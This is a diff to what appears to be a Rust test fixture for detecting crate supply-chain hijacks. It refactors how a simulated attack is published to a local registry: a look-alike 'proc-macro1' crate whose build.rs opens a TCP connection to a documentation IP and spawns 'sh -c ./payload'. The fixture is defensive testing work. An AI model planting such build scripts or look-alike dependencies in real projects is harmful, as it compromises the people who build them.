@@ -18,11 +18,28 @@ pub const ARRAYREF_REPOSITORY: &str = "https://github.com/bluss/arrayref";
 
 /// The payload: real calls, and the same calls in a comment and a string (which must raise
 /// nothing of their own). The real spawn is on line 8.
-pub const BUILD_RS: &str = "use std::net::TcpStream;\nuse std::process::Command;\n\n\
+pub const PAYLOAD_BUILD_RS: &str = "use std::net::TcpStream;\nuse std::process::Command;\n\n\
 // Command::new(\"curl\") in a comment is not a call.\n\
 fn main() {\n    let _note = \"Command::new(\\\"sh\\\")\";\n    \
 let _c = TcpStream::connect(\"203.0.113.7:443\");\n    \
 Command::new(\"sh\").arg(\"-c\").arg(\"./payload\").status().ok();\n}\n";
+
+/// Publishes `downloader@0.2.7` (old) and `proc-macro1@0.1.0` (at `pubtime`), which
+/// build-depends on it and runs [`PAYLOAD_BUILD_RS`]. A release that adds `proc-macro1 = "0.1"`
+/// is the hijacked one.
+pub fn publish_look_alike(reg: &LocalRegistry, pubtime: &str) {
+    let downloader = reg.publish_crate(
+        &CrateSpec::new("downloader", "0.2.7").file("src/lib.rs", "pub fn get(_: &str) {}\n"),
+    );
+    reg.set_pubtime(&downloader.name, &downloader.version, OLD_PUBTIME);
+    let look_alike = reg.publish_crate(
+        &CrateSpec::new("proc-macro1", "0.1.0")
+            .build_dep("downloader", "0.2")
+            .file("build.rs", PAYLOAD_BUILD_RS)
+            .file("src/lib.rs", ""),
+    );
+    reg.set_pubtime(&look_alike.name, &look_alike.version, pubtime);
+}
 
 /// The registry after the attack and a workspace whose lockfile still has the (now yanked)
 /// arrayref 0.3.9. [`lure`] moves it to the hijacked release.
@@ -56,17 +73,7 @@ pub fn hijack() -> Hijack {
     );
     ws.generate_lockfile(&reg);
     // The attack: a download crate, the look-alike that build-depends on it, the release.
-    publish(
-        CrateSpec::new("downloader", "0.2.7").file("src/lib.rs", "pub fn get(_: &str) {}\n"),
-        OLD_PUBTIME,
-    );
-    publish(
-        CrateSpec::new("proc-macro1", "0.1.0")
-            .build_dep("downloader", "0.2")
-            .file("build.rs", BUILD_RS)
-            .file("src/lib.rs", ""),
-        "2026-08-20T11:20:00Z",
-    );
+    publish_look_alike(&reg, "2026-08-20T11:20:00Z");
     publish(
         arrayref("0.3.10").dep("proc-macro1", "0.1"),
         "2026-08-20T11:30:00Z",
